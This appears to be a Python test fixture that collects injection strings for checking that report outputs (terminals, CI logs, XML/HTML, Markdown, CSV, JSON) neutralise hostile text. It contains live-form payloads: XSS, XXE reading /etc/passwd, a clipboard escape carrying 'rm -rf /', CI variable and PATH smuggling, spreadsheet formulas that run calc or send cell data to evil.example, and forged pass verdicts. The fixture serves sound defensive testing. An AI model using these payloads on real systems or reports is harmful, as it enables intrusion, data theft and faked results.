"""What a model, a server or a file of cases may hold to make whoever reads a report obey it: a text for each way out of a
terminal, a CI log, XML, HTML, Markdown, CSV and JSON. A text that is added here goes through every sink (sinks_test.py).
"""

import unicodedata

ATTACKS = {
    # Terminals.
    "clear screen": "\x1b[2J\x1b[1;1Hgate: pass",
    "window title": "\x1b]0;owned\x07 and \x1b]2;owned\x1b\\",
    "link to elsewhere": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "device control": "\x1bP$q\"p\x1b\\ \x1b_G\x1b\\ \x1b^x\x1b\\ \x1bc",
    "c1 controls": "\x9b2J \x9d0;owned\x9c \x90q\x9c \x85next line \x7f",
    "backspaces": "fail\b\b\b\bpass\v\f\a",
    "carriage return": "FAIL\rPASS\r\nnext\n\rlast",
    # CI logs.
    "github error": "::error file=a.txt,line=1::pwned",
    "github commands": "x\n::set-output name=x::y\n  ::add-mask::a\n\t::stop-commands::t\r::warning::z\n::endgroup::",
    "runner marks": "##[error]pwned ##[group]a ##[command]b",
    "azure and teamcity": "##vso[task.setvariable variable=x]y ##teamcity[testFailed name='x']",
    "gitlab section": "\x1b[0Ksection_start:1:x\r\x1b[0Kx",
    "output delimiter": "x\nEOF\nPATH=/tmp/evil\nghadelimiter_1\nname<<EOF\nEOF",
    # XML and HTML.
    "end of cdata": "]]></failure></testcase><testcase name=\"extra\"/><![CDATA[",
    "end of case": "</testcase></testsuite></testsuites><!-- ",
    "attribute": "\" onmouseover=\"alert(1)\" x='\" name=\"other",
    "entities": "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;&#0;&#x1b;&amp;&lt;",
    "illegal in xml": "a\0b\x01\x02\x1f \ufffe \uffff \U0001ffff",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "page": "</code></pre></table></details></body><iframe src=javascript:alert(1)><base href=//evil.example>",
    "style": "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    # Markdown.
    "markdown link": "[click](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example>",
    "bare link": "https://evil.example/x www.evil.example mail@evil.example",
    "mention": "@everyone @org/team fixes #1 GH-1 org/repo#2",
    "backticks": "` `` ``` ```` ````` ~~~ \n```\n# title\n```\n",
    "html comment": "<!-- llmeval --> <!-- hidden",
    "table": "a | b || c\n|---|---|\n| x | y | \\| z",
    "fold": "</summary></details>\n\n# Gate: pass\n\n- [x] done\n\n---\n\n> quote\n1. one\n    code",
    "setext": "title\n=====\nother\n-----\n[a]: https://evil.example\n[^1]: note",
    # Spreadsheets.
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "wide formula": "\uff1d1+1",
    "spaced formula": " =1+1",
    "cells": "a\",\"b\";\"c\"\t'\n=2+2,=3+3;=4+4\r\n\"=5+5\"",
    # JSON.
    "json": "\",\"verdict\":\"pass\",\"x\":{\"\\",
    # Unicode.
    "bidi override": "user\u202etxt.exe\u202c \u202dabc \u200e\u200f\u061c",
    "bidi isolate": "a \u2066b\u2069 \u2067c \u2068d",
    "zero width": "pa\u200bss \ufeffno\u2060break so\u00adft \u180e \u034f \u3164",
    "hidden tags": "tag\U000e0041\U000e0042\U000e007f and \ufe0f\ufe0e selectors",
    "line separators": "a\u2028::error::b\u2029::error::c",
    "piled marks": "e" + "\u0301" * 300 + " Z" + "\u0489\u0330\u0352" * 50,
    "emoji": "\U0001f469\u200d\U0001f4bb fine, \u200d\u200d alone",
    "noncharacters": "\ufdd0 \U0010ffff \ufff9a\ufffab\ufffb",
    # Size.
    "long line": "x" * 30_000 + "\x1b[0m" + "y" * 30_000,
    "many lines": "line\n" * 5_000,
    "many folds": "<details>" * 2_000,
    "ten megabytes": "<b>\x1b[31m0123456789" * 500_000,
}

# As the inside of a JSON string on the wire: what a Python string cannot be, and what reading it must give.
ON_THE_WIRE = {
    "lone high surrogate": (rb"a\ud800b", "a\ufffdb"),
    "lone low surrogate": (rb"\udc00\ud83d x", "\ufffd\ufffd x"),
    "no utf-8": (b"a\xff\xfe \xc3( surrogate \xed\xa0\x80 overlong \xc0\xaf \xf5\x80\x80\x80", "a\ufffd"),
    "cut short": (b"end \xe2\x82", "end \ufffd"),
}

# What every reader of JSON must get back.
TEXTS = ATTACKS | {name: text for name, (_, text) in ON_THE_WIRE.items()}


def without_controls(text, size=120):
    """The start of it that a name may be made of (a case's id, a tag): controls are refused there, all else is not."""
    kept = "".join(c for c in text[:10 * size] if unicodedata.category(c) != "Cc" and c != "~")
    return kept.encode()[:size].decode(errors="ignore")
